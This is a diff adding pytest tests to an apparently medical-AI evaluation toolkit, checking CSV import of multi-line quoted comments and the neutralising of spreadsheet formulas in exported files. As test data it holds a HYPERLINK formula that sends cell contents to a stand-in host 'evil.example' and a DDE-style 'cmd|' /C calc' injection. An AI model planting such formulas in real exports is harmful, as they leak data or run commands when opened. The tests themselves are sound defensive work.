@@ -94,3 +94,188 @@ def test_the_store_holds_any_text_it_is_given(tmp_path):
         )
         assert st.call("k1")["text"] == st.call("k2")["error"] == st.score("k1", "letter")["label"] == "Answer: A \ufffd"
         assert "\ufffd" in st.call("k1")["tool_calls"] and st.call("k3")["text"] == "fine"
+
+
+# =========================================================================== 2. an unclosed quote in a ratings file
+
+RATINGS_HEADER = "rater,unit,item,dimension,value\n"
+
+
+def test_an_unclosed_quote_swallowing_ratings_is_refused_with_its_line(tmp_path):
+    """The comment on line 3 opens a quote it never closes: the four rows after it would be read as
+    the comment's text (1 rating imported, exit 0); they are rows of the header's shape, so the
+    file is refused naming line 3, and no review is written."""
+    f = tmp_path / "ratings.csv"
+    f.write_text(
+        RATINGS_HEADER + "ann,u1,q1,false_presupposition,yes\n"
+        'ann,u1,q1,comment,"the premise is wrong\n'
+        "ann,u2,q2,false_presupposition,no\n"
+        "bob,u1,q1,false_presupposition,yes\n"
+        "bob,u2,q2,false_presupposition,no\n"
+        "cat,u2,q2,false_presupposition,no\n",
+        encoding="utf-8",
+    )
+    line = _one_error_line(runner.invoke(app, ["review", "import", str(f), "--rubric", "premise", "--out", str(tmp_path / "review")]))
+    assert f"{f}:3" in line and "unclosed quote" in line and "line 4" in line, line
+    assert not (tmp_path / "review").exists()
+
+
+def test_a_comment_spanning_lines_imports_and_the_counts_are_told(tmp_path):
+    """A quoted comment with line breaks whose lines are not shaped like rows is kept whole; the
+    import says how many rows it read against the file's lines."""
+    from medresilience.review.db import ReviewDB
+
+    f = tmp_path / "ratings.csv"
+    f.write_text(
+        RATINGS_HEADER + 'ann,u1,q1,false_presupposition,yes\nann,u1,q1,comment,"first line, then\nsecond line\n\nlast"\nann,u2,q2,false_presupposition,no\n',
+        encoding="utf-8",
+    )
+    r = runner.invoke(app, ["review", "import", str(f), "--rubric", "premise", "--out", str(tmp_path / "review")])
+    assert r.exit_code == 0, r.output
+    assert "2 ratings (0 skipped) of 2 units by 1 raters" in r.output and "from 3 rows read in 7 lines (with the header)" in r.output, r.output
+    with ReviewDB(tmp_path / "review") as db:
+        assert [x["comment"] for x in db.ratings() if x["unit_id"] == "u1"] == ["first line, then\nsecond line\n\nlast"]
+
+
+# =========================================================================== 3. spreadsheet formulas in CSV output
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+
+def _cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        return list(csv.reader(fh))
+
+
+def test_the_csv_rule_quotes_formulas_leaves_numbers_and_undoes_exactly():
+    from medresilience.fileio import csv_cell, csv_text
+
+    for typed, written in [
+        ("=cmd", "'=cmd"),
+        ("+1+2", "'+1+2"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),  # a quote already there gets one more, so reading back is exact
+        ("-0.5", "-0.5"),  # a plain number, even as text, stays as it is
+        ("+3", "+3"),
+        ("1e-3", "1e-3"),
+        ("plain", "plain"),
+        ("'quoted", "'quoted"),
+        ("", ""),
+    ]:
+        assert csv_cell(typed) == written, typed
+        assert csv_text(written) == typed, written
+    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None
+
+
+def _review_with_formulas(tmp_path: Path) -> Path:
+    """A review whose comments, unit ids and strata hold what a spreadsheet would run."""
+    import csv
+
+    from medresilience.review.exchange import import_ratings
+
+    src = tmp_path / "typed.csv"
+    with open(src, "w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh)
+        w.writerow(["rater", "unit", "item", "dimension", "value", "stratum_model"])
+        w.writerow(["ann", "@u1", "q1", "false_presupposition", "yes", "=cmd"])
+        w.writerow(["ann", "@u1", "q1", "comment", FORMULA, "=cmd"])
+        w.writerow(["ann", "u2", "+q2", "false_presupposition", "no", "-0.5"])
+        w.writerow(["ann", "u2", "+q2", "comment", "''=already quoted", "-0.5"])  # read by the rule: '=already quoted
+        w.writerow(["bob", "u2", "+q2", "comment", "-0.5", "-0.5"])
+    import_ratings(src, "premise", tmp_path / "review")
+    return tmp_path / "review"
+
+
+def test_review_export_neutralises_formulas_and_its_import_reads_them_back(tmp_path):
+    from medresilience.review.db import ReviewDB
+
+    review = _review_with_formulas(tmp_path)
+    out = tmp_path / "export.csv"
+    r = runner.invoke(app, ["review", "export", str(review), "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    rows = _cells(out)
+    assert ["ann", "'@u1", "q1", "comment", "'" + FORMULA, "'=cmd"] in rows
+    assert ["ann", "u2", "'+q2", "comment", "''=already quoted", "-0.5"] in rows
+    assert ["bob", "u2", "'+q2", "comment", "-0.5", "-0.5"] in rows  # a number stays a number
+    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@")], rows
+    # round trip: the export imported is the review that was exported
+    r = runner.invoke(app, ["review", "import", str(out), "--rubric", "premise", "--out", str(tmp_path / "again")])
+    assert r.exit_code == 0, r.output
+    with ReviewDB(review) as a, ReviewDB(tmp_path / "again") as b:
+        first = sorted((x["reviewer"], x["unit_id"], x["comment"], sorted(x["values"].items())) for x in a.ratings())
+        second = sorted((x["reviewer"], x["unit_id"], x["comment"], sorted(x["values"].items())) for x in b.ratings())
+        assert first == second
+        assert {u.unit_id: (u.item_id, u.strata) for u in a.units().values()} == {u.unit_id: (u.item_id, u.strata) for u in b.units().values()}
+        assert {FORMULA, "'=already quoted", "-0.5"} <= {x["comment"] for x in b.ratings()}
+    runner.invoke(app, ["review", "export", str(tmp_path / "again"), "--out", str(tmp_path / "export2.csv")])
+    assert (tmp_path / "export2.csv").read_bytes() == out.read_bytes()
+
+
+def test_review_stats_ratings_csv_neutralises_formulas(tmp_path):
+    review = _review_with_formulas(tmp_path)
+    r = runner.invoke(app, ["review", "stats", str(review), "--out", str(tmp_path / "stats"), "--resamples", "50"])
+    assert r.exit_code == 0, r.output
+    rows = _cells(tmp_path / "stats" / "ratings.csv")
+    header, body = rows[0], rows[1:]
+    comments = [row[header.index("comment")] for row in body]
+    assert "'" + FORMULA in comments and "''=already quoted" in comments and "-0.5" in comments
+    assert "'=cmd" in [row[header.index("stratum_model")] for row in body]
+    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@")], rows
+
+
+def test_a_model_label_formula_is_neutralised_in_the_reports_usage_csv(tmp_path, tiny_suite):
+    d = tmp_path / "suite"
+    tiny_suite.save(d)
+    out = tmp_path / "run"
+    with StubServer(policy=oracle_policy) as srv:
+        r = runner.invoke(
+            app, ["eval", "--suite", str(d), "--out", str(out), "-O", "type1=all", "--model", f"openai:stub-model,base_url={srv.base_url},label==cmd"]
+        )
+        assert r.exit_code == 0, r.output
+    r = runner.invoke(app, ["report", str(out)])
+    assert r.exit_code == 0, r.output
+    tables = sorted((out / "report" / "tables").glob("*.csv"))
+    assert (out / "report" / "tables" / "usage.csv") in tables
+    usage = _cells(out / "report" / "tables" / "usage.csv")
+    assert "'=cmd" in [c for row in usage for c in row]
+    for t in tables:  # no table of the report starts a cell with a formula
+        assert not [c for row in _cells(t) for c in row if c[:1] in ("=", "+", "@")], t
+
+
+def test_every_csv_writer_goes_through_the_one_rule():
+    """No module but fileio.py writes CSV itself (pandas' to_csv, the csv module's writers): every
+    other one calls write_csv / write_csv_frame, which apply the rule. Found by reading the source,
+    so a new writer that bypasses it fails here."""
+    import ast
+
+    from conftest import ROOT
+
+    pkg = ROOT / "src" / "medresilience"
+    direct: list[str] = []
+    through: set[str] = set()
+    for path in sorted(pkg.rglob("*.py")):
+        rel = path.relative_to(pkg).as_posix()
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in ast.walk(tree):
+            name = None
+            if isinstance(node, ast.Attribute):
+                name = node.attr
+            elif isinstance(node, ast.Name):
+                name = node.id
+            elif isinstance(node, ast.ImportFrom) and node.module == "csv":
+                name = next((a.name for a in node.names if a.name in ("writer", "DictWriter")), None)
+            if name in ("to_csv", "DictWriter") or (name == "writer" and isinstance(node, ast.Attribute) and getattr(node.value, "id", "") == "csv"):
+                direct.append(f"{rel}:{node.lineno}")
+            if name in ("write_csv", "write_csv_frame"):
+                through.add(rel)
+            if isinstance(node, ast.ImportFrom) and node.module == "csv" and name:
+                direct.append(f"{rel}:{node.lineno}")
+    assert {d.split(":")[0] for d in direct} == {"fileio.py"}, direct
+    assert len(direct) == 2  # csv.writer in write_csv, to_csv in write_csv_frame
+    # the writers of the toolkit's CSV files, each through the rule
+    assert {"review/exchange.py", "review/stats.py", "review/picks.py", "review/parts.py", "review/harm.py", "report/tables.py"} <= through
